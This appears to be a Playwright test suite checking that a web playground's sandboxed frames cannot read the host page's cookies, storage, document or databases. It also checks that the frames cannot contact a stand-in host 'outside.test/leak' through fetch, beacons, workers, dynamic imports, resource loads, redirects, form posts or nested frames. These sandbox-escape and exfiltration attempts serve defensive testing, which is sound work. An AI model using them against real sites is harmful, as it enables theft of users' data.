import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import type { Page } from '@playwright/test';

import { expect, test } from './fixtures';
import { eventsOf, openRunPage, startRun, stopRun } from './run-page';
import { CLIENT, IDLE, SERVER } from './run-programs';

/** Stands for the address of a server that nothing of a program may reach. */
const OUTSIDE = 'http://outside.test/leak';

/** That server; a request that a browser only thinks of, and its policy blocks, is none. */
const requests: string[] = [];
const outside = createServer(({ url = '' }, response) => {
	requests.push(url);
	response.setHeader('access-control-allow-origin', '*').end('reached');
});
const reachable = (text: string) => {
	const { port } = outside.address() as AddressInfo;
	return text.replaceAll(OUTSIDE, `http://127.0.0.1:${String(port)}/leak`);
};

test.beforeAll(() => new Promise<void>((listening) => outside.listen(0, '127.0.0.1', listening)));
test.afterAll(() => {
	outside.closeAllConnections();
	outside.close();
});

/** Tries one thing after the other on one page; each is a step that a failure names. */
async function tryEach(
	page: Page,
	tries: readonly (readonly [name: string, text: string])[],
	attempt: (text: string) => Promise<void>,
): Promise<void> {
	expect(tries.length).toBeGreaterThan(0);
	for (const [name, text] of tries) {
		await test.step(name, async () => {
			await attempt(text);
			await stopRun(page);
			await expect(page.locator('iframe')).toHaveCount(0);
		});
	}
}

/** Runs an expression on both sides, and returns what each of them prints. */
async function tryBoth(page: Page, expression: string): Promise<Record<string, string>> {
	const attempt = reachable(`const tell = (value) => console.log(String(value));
Promise.resolve().then(async () => ${expression}).then(tell, (error) => tell('error ' + error.name));`);
	await startRun(page, {
		[SERVER]: `${IDLE}\n${attempt.replaceAll('(value)', '(value: unknown)')}`,
		[CLIENT]: `<script>\n${attempt}\n</script>`,
	});
	await expect.poll(() => eventsOf(page, 'console')).toHaveLength(2);
	const printed = await eventsOf(page, 'console');
	return Object.fromEntries(printed.map(({ place, text }) => [String(place), text]));
}

test.beforeEach(async ({ page, context, faults }) => {
	// What is blocked is told of in the console, by whoever blocks it.
	requests.length = 0;
	// Playwright tells of requests that the policy then blocks; the server outside knows better.
	faults.expected(/^third party: http:\/\/127\.0\.0\.1/);
	faults.expected(/content.security.policy|policy: |sandbox|Blocked|violates|SecurityError/i);
	await context.addCookies([{ name: 'secret', value: 'cookie', url: 'http://localhost' }]);
	await openRunPage(page);
	await page.evaluate(() => {
		localStorage.setItem('secret', 'storage');
		document.cookie = 'secret=cookie';
	});
});

const READS = [
	['the storage of the workbook', 'localStorage.secret'],
	['its cookies', 'document.cookie'],
	['its document', 'parent.document.title'],
	['its window', 'top.document.body.innerHTML'],
	['what it keeps in its window', 'String(parent.startRun)'],
	['its databases', 'globalThis.indexedDB.databases().then(() => "read")'],
	['its caches', 'globalThis.caches.keys()'],
	['its other frames', 'parent.frames[0].document.title'],
] as const;

test('a program can read nothing of the workbook', { tag: '@firefox' }, async ({ page }) => {
	await tryEach(page, READS, async (expression) => {
		const printed = await tryBoth(page, expression);
		expect(printed['1']).toMatch(/^error (SecurityError|TypeError|ReferenceError)$/);
		expect(printed.server).toMatch(/^error (SecurityError|TypeError|ReferenceError)$|^undefined$/);
	});
});

const CALLS = [
	['fetch', `fetch('${OUTSIDE}').then(() => 'reached')`],
	['fetch of the workbook', `fetch(location.origin + '/leak').then(() => 'reached')`],
	['the fetch of its window', `globalThis.fetch('${OUTSIDE}').then(() => 'reached')`],
	['XMLHttpRequest', `new XMLHttpRequest().open('GET', '${OUTSIDE}')`],
	['sendBeacon', `navigator.sendBeacon('${OUTSIDE}')`],
	['WebTransport', `new WebTransport('https://elsewhere.test/leak').ready`],
	['RTCPeerConnection', `new RTCPeerConnection().createOffer()`],
	['importScripts', `importScripts('${OUTSIDE}')`],
	['import of an address', `Function('return import("${OUTSIDE}")')()`],
	['a worker of its own', `new Worker('${OUTSIDE}')`],
	['a broadcast', `new BroadcastChannel('x').postMessage('x')`],
] as const;

test('a program calls nobody outside', { tag: '@firefox' }, async ({ page }) => {
	await tryEach(page, CALLS, async (expression) => {
		const printed = await tryBoth(page, expression);
		expect(printed['1']).toMatch(/^error /);
		expect(printed.server).toMatch(/^error /);
		expect(requests).toEqual([]);
	});
});

const LOADS = [
	['an image', `<img alt="" src="${OUTSIDE}">`],
	['a style sheet', `<link rel="stylesheet" href="${OUTSIDE}">`],
	['a style', `<div style="width: 9px; height: 9px; background: url(${OUTSIDE})"></div>`],
	['a prefetch', `<link rel="prefetch" href="${OUTSIDE}">`],
	['a frame', `<iframe title="x" src="${OUTSIDE}"></iframe>`],
	['a frame of the workbook', `<iframe title="x" src="/leak"></iframe>`],
	['a script', `<svelte:head><script src="${OUTSIDE}"></script></svelte:head>`],
	['a media file', `<video src="${OUTSIDE}" autoplay muted></video>`],
	['an object', `<object title="x" data="${OUTSIDE}"></object>`],
] as const;

test('a client loads nothing from outside', { tag: '@firefox' }, async ({ page }) => {
	await tryEach(page, LOADS, async (markup) => {
		await startRun(page, {
			[SERVER]: IDLE,
			[CLIENT]: reachable(
				`<script>\nsetTimeout(() => console.log('later'), 500);\n</script>\n${markup}<p>shown</p>`,
			),
		});
		await expect(page.frameLocator('iframe[title="tab 1"]').getByText('shown')).toBeVisible();
		await expect.poll(() => eventsOf(page, 'console')).toHaveLength(1);
		expect(requests).toEqual([]);
	});
});

const WAYS = [
	['its address', `location.href = '${OUTSIDE}';`],
	['a link', `const a = document.createElement('a'); a.href = '${OUTSIDE}'; a.click();`],
	[
		'a refresh',
		`const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${OUTSIDE}'; document.head.append(m);`,
	],
	[
		'a form',
		`const f = document.createElement('form'); f.action = '${OUTSIDE}'; document.body.append(f); f.submit();`,
	],
	['the page around it', `top.location = '${OUTSIDE}';`],
	[
		'a new window',
		`const a = document.createElement('a'); a.href = '${OUTSIDE}'; a.target = '_blank'; a.click();`,
	],
] as const;

test('a client goes nowhere else', { tag: '@firefox' }, async ({ page, context }) => {
	await tryEach(page, WAYS, async (code) => {
		await startRun(page, {
			[SERVER]: IDLE,
			[CLIENT]: reachable(
				`<script>\nsetTimeout(() => console.log('later'), 500);\n${code}\n</script>`,
			),
		});
		const told = async () =>
			(await eventsOf(page, 'console')).length + (await eventsOf(page, 'stopped')).length;
		await expect.poll(told).toBeGreaterThan(0);
		expect(requests).toEqual([]);
		expect(page.url()).toContain('/run-test/');
		expect(context.pages()).toHaveLength(1);
	});
});

test(
	'a client adds nothing to the history of the workbook but its leaving',
	{ tag: '@firefox' },
	async ({ page }) => {
		const before = await page.evaluate(() => history.length);
		await startRun(page, {
			[SERVER]: IDLE,
			[CLIENT]: `<script>
for (let i = 0; i < 30; i++) try { history.pushState(i, '', '#' + i); } catch {}
const a = document.createElement('a'); a.href = '#x'; document.body.append(a); a.click();
console.log('stays');
for (let i = 0; i < 30; i++) location.hash = 'x' + i;
</script>`,
		});
		await expect
			.poll(() => eventsOf(page, 'stopped'))
			.toEqual([{ type: 'stopped', place: 1, reason: 'left' }]);
		expect((await eventsOf(page, 'console')).map(({ text }) => text)).toEqual(['stays']);
		const after = await page.evaluate(() => history.length);
		expect(after - before).toBeLessThanOrEqual(1);
	},
);

test('a frame inside the frame is no way out', { tag: '@firefox' }, async ({ page }) => {
	await startRun(page, {
		[SERVER]: IDLE,
		[CLIENT]: reachable(`<script>
const frame = document.createElement('iframe');
document.body.append(frame);
function attempt() {
	const Native = frame.contentWindow.XMLHttpRequest;
	const request = new Native();
	request.open('GET', '${OUTSIDE}');
	return new Promise((resolve, reject) => {
		request.onload = () => resolve('reached');
		request.onerror = () => reject(new Error('blocked'));
		request.send();
	});
}
Promise.resolve().then(attempt).then(console.log, (error) => console.log('error', error.name));
</script>`),
	});
	await expect.poll(() => eventsOf(page, 'console')).toHaveLength(1);
	expect((await eventsOf(page, 'console'))[0]?.text).toMatch(/^error/);
	expect(requests).toEqual([]);
});

test('the server outside can be reached, but by programs', async ({ request }) => {
	await request.get(reachable(OUTSIDE));
	expect(requests).toEqual(['/leak']);
});

test('the document of the frames runs nothing outside of a frame', async ({ page, request }) => {
	const { headers } = { headers: (await request.get('/playground/frame.html')).headers() };
	expect(headers['content-security-policy']).toMatch(/frame-ancestors 'self'; ?sandbox/);
	expect(headers['x-frame-options']).toBe('SAMEORIGIN');
	await page.goto('/playground/frame.html');
	await page.evaluate(() => {
		postMessage('document.title = "ran"', '*');
	});
	await page.evaluate(() => new Promise((done) => setTimeout(done, 0)));
	await expect(page).toHaveTitle('Playground');
});

test('every other document says that nobody may frame it', async ({ request }) => {
	for (const path of ['/en/', '/playground/frame.html/', '/healthz']) {
		const headers = (await request.get(path)).headers();
		expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
		expect(headers['x-frame-options']).toBe('DENY');
	}
});
